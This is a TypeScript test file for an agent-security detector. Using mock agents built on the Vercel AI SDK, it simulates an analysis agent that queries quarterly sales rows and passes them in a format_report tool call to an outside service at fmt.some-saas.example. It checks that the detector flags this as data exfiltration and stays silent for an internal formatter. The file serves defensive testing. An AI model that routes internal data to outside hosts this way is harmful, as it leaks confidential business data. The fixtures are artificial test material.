// Attack scenario (b), data_exfiltration (OWASP ASI02), with REAL instrumentation: Vercel AI SDK
// v6 (`ai.*` spans; the `ai-v6` alias), tool arguments and results recorded (the SDK's defaults),
// mock models that act on what their prompt holds, and tools whose execute returns content. The
// spans the SDK recorded (in-memory exporter, in the order it ended them) go through normalize →
// tracegraph → detect → enrich in-process, with the demo policy (config/policies/demo.yaml).
//
//   ai.generateText orchestrator     "Summarize the quarter's sales and mail it to the CFO"
//   ├─ ai.toolCall delegate_analysis ─ ai.generateText analysis
//   │     ai.toolCall sales_db_query (sensitive) → ai.toolCall format_report (egress) whose
//   │     arguments send the rows to the rendering service they name — attack: an outside SaaS
//   │     (https://fmt.some-saas.example); negative: the internal formatter
//   │     (https://formatter.corp.internal)
//   └─ ai.toolCall send_email to cfo@acme.example (egress, allowed: no finding either way)
import { readFileSync } from 'node:fs';
import { trace } from '@opentelemetry/api';
import { NodeSDK } from '@opentelemetry/sdk-node';
import { InMemorySpanExporter, type ReadableSpan } from '@opentelemetry/sdk-trace';
import { generateText, stepCountIs, tool } from 'ai-v6';
import { MockLanguageModelV3 } from 'ai-v6/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { startRecordingSdk, stopRecordingSdk } from '../../helpers/sdk-spans.ts';
import { detectHarness, specsFromSdk, comparableFindings } from '../../helpers/detect-harness.ts';
import { describeSpans, textStep, toolCallStep, lastToolOutput, round, type Prompt } from '../instrumentation/fixtures/ai-sdk-tracing.ts';

const POLICY = readFileSync(new URL('../../../config/policies/demo.yaml', import.meta.url), 'utf8');

const EXTERNAL_FORMATTER = 'https://fmt.some-saas.example/v1/render';
const INTERNAL_FORMATTER = 'https://formatter.corp.internal/v1/render';
const ROWS = [
  { region: 'EMEA', quarter: '2026-Q3', revenue_usd: 1_250_000, top_account: 'Globex Corporation', gross_margin_pct: 31 },
  { region: 'APAC', quarter: '2026-Q3', revenue_usd: 980_500, top_account: 'Initech Holdings', gross_margin_pct: 27 },
  { region: 'AMER', quarter: '2026-Q3', revenue_usd: 2_104_750, top_account: 'Umbrella Group', gross_margin_pct: 35 },
];

// ---------------------------------------------------------------------------------- helpers




// ---------------------------------------------------------------------------------- the system

let memory: InMemorySpanExporter;
let sdk: NodeSDK;

/** Runs the orchestrator → analysis system once; returns the spans of its trace, in the order they ended. */
async function runSystem(formatter: string): Promise<ReadableSpan[]> {
  const telemetry = (functionId: string) => ({ isEnabled: true, functionId });
  const analysis = new MockLanguageModelV3({
    provider: 'openai.chat',
    modelId: 'gpt-analysis',
    doGenerate: async ({ prompt }) => {
      const p = prompt as Prompt;
      if (round(p) === 0) return toolCallStep({ id: 'call-sales', tool: 'sales_db_query', args: { sql: "select region, quarter, revenue_usd, top_account, gross_margin_pct from sales where quarter = '2026-Q3'" } });
      if (round(p) === 1) {
        const { rows } = lastToolOutput(p, 'sales_db_query') as { rows: typeof ROWS };
        return toolCallStep({ id: 'call-format', tool: 'format_report', args: { service_url: formatter, template: 'quarterly-summary', title: 'Sales, 2026-Q3', rows } });
      }
      return textStep(String((lastToolOutput(p, 'format_report') as { report: string }).report));
    },
  });
  const orchestrator = new MockLanguageModelV3({
    provider: 'openai.chat',
    modelId: 'gpt-orchestrator',
    doGenerate: async ({ prompt }) => {
      const p = prompt as Prompt;
      if (round(p) === 0) return toolCallStep({ id: 'call-analysis', tool: 'delegate_analysis', args: { request: "Summarize the quarter's sales" } });
      if (round(p) === 1) {
        const summary = String(lastToolOutput(p, 'delegate_analysis'));
        return toolCallStep({ id: 'call-mail', tool: 'send_email', args: { to: 'cfo@acme.example', subject: 'Sales summary, 2026-Q3', body: summary } });
      }
      return textStep('Summary sent to the CFO.');
    },
  });

  let traceId = '';
  await generateText({
    model: orchestrator,
    prompt: "Summarize the quarter's sales and mail the summary to the CFO.",
    stopWhen: stepCountIs(5),
    experimental_telemetry: telemetry('orchestrator'),
    tools: {
      delegate_analysis: tool({
        inputSchema: z.object({ request: z.string() }),
        execute: async ({ request }) => {
          traceId = trace.getActiveSpan()?.spanContext().traceId ?? '';
          const a = await generateText({
            model: analysis,
            prompt: request,
            stopWhen: stepCountIs(5),
            experimental_telemetry: telemetry('analysis'),
            tools: {
              sales_db_query: tool({ inputSchema: z.object({ sql: z.string() }), execute: async () => ({ rows: ROWS }) }),
              format_report: tool({
                inputSchema: z.object({ service_url: z.string(), template: z.string(), title: z.string(), rows: z.array(z.record(z.string(), z.unknown())) }),
                // The rendering service's answer: a formatted text of the rows.
                execute: async ({ title, rows }) => ({
                  report: `${title}\n${rows.map((r) => `- ${String(r.region)}: USD ${String(r.revenue_usd)} revenue, ${String(r.gross_margin_pct)}% margin`).join('\n')}`,
                }),
              }),
            },
          });
          return a.text;
        },
      }),
      send_email: tool({
        inputSchema: z.object({ to: z.string(), subject: z.string(), body: z.string() }),
        execute: async () => ({ queued: true }),
      }),
    },
  });
  expect(traceId).toMatch(/^[0-9a-f]{32}$/);
  return memory.getFinishedSpans().filter((s) => s.spanContext().traceId === traceId);
}

// ---------------------------------------------------------------------------------- the tests

describe("attack: the quarter's sales sent to an outside formatting service (AI SDK v6)", () => {
  let attack: ReadableSpan[];
  let benign: ReadableSpan[];
  let shape = '';
  const toolSpan = (spans: readonly ReadableSpan[], name: string) => {
    const found = spans.filter((s) => s.name === 'ai.toolCall' && s.attributes['ai.toolCall.name'] === name);
    expect(found, `ai.toolCall ${name} in\n${shape}`).toHaveLength(1);
    return found[0]!;
  };

  beforeAll(async () => {
    ({ memory, sdk } = startRecordingSdk('demo-agents'));
    attack = await runSystem(EXTERNAL_FORMATTER);
    benign = await runSystem(INTERNAL_FORMATTER);
    shape = describeSpans(
      specsFromSdk(attack).map((s) => ({ spanId: s.id, parentSpanId: s.parent ?? '', kind: s.kind ?? 1, name: s.name ?? '', attributes: s.attrs ?? {} })),
    );
  });

  afterAll(() => stopRecordingSdk(sdk));

  it('records the system as expected: two agents, tool arguments and results captured', () => {
    const query = toolSpan(attack, 'sales_db_query');
    const format = toolSpan(attack, 'format_report');
    expect(query.attributes['ai.telemetry.functionId']).toBe('analysis');
    expect(String(query.attributes['ai.toolCall.result'])).toContain('Globex Corporation');
    expect(String(format.attributes['ai.toolCall.args'])).toContain(EXTERNAL_FORMATTER);
    expect(String(format.attributes['ai.toolCall.args'])).toContain('Globex Corporation');
    expect(String(toolSpan(benign, 'format_report').attributes['ai.toolCall.args'])).toContain(INTERNAL_FORMATTER);
    expect(String(toolSpan(attack, 'send_email').attributes['ai.telemetry.functionId'])).toBe('orchestrator');
  });

  it('finds the exfiltration: sales_db_query → format_report to fmt.some-saas.example, in the analysis agent', async () => {
    const h = detectHarness(POLICY);
    await h.send(specsFromSdk(attack));
    const findings = h.findings();
    expect(findings.map((f) => f.kind), shape).toEqual(['data_exfiltration']);
    const f = findings[0]!;
    const query = toolSpan(attack, 'sales_db_query').spanContext().spanId;
    const format = toolSpan(attack, 'format_report').spanContext().spanId;
    expect(f).toMatchObject({ confidence: 'high', severity: 'high', owasp: 'ASI02', spanIds: [format, query] });
    expect(f.chain).toEqual([
      { role: 'analysis', spanId: query, capability: 'sales-db' },
      { role: 'analysis', spanId: format, capability: 'report-render' },
    ]);
    expect(f.evidence).toMatchObject({
      destination: 'fmt.some-saas.example',
      destination_class: 'external',
      source: { tool: 'sales_db_query', agent: 'analysis', capabilities: ['sales-db'] },
      sink: { tool: 'format_report', agent: 'analysis', sink: 'egress' },
      content: { source_result_captured: true, sink_args_captured: true },
    });
    expect(JSON.stringify(f)).not.toMatch(/Globex|1250000|Initech/);
    const out = h.exported();
    expect(out.find((s) => s.spanId === format)!.attributes).toMatchObject({ 'agentsec.finding.kind': 'data_exfiltration', 'agentsec.agent.role': 'analysis' });
  });

  it('gives no finding of any kind with the internal formatting service', async () => {
    const h = detectHarness(POLICY);
    await h.send(specsFromSdk(benign));
    expect(h.findings()).toEqual([]);
  });

  it('finds the same, whatever order the spans arrive in', async () => {
    const once = detectHarness(POLICY);
    await once.send(specsFromSdk(attack));
    const expected = comparableFindings(once.findings());
    expect(expected).toHaveLength(1);
    const specs = specsFromSdk(attack);
    // As the SDK exported them (each span when it ended: children first), one span per batch;
    // then in reverse start order; then roots first.
    const orders = [specs, [...specs].sort((a, b) => b.t - a.t), [...specs].sort((a, b) => a.t - b.t)];
    for (const order of orders) {
      const h = detectHarness(POLICY);
      for (const s of order) await h.send([s]);
      expect(comparableFindings(h.findings())).toEqual(expected);
    }
  });
});
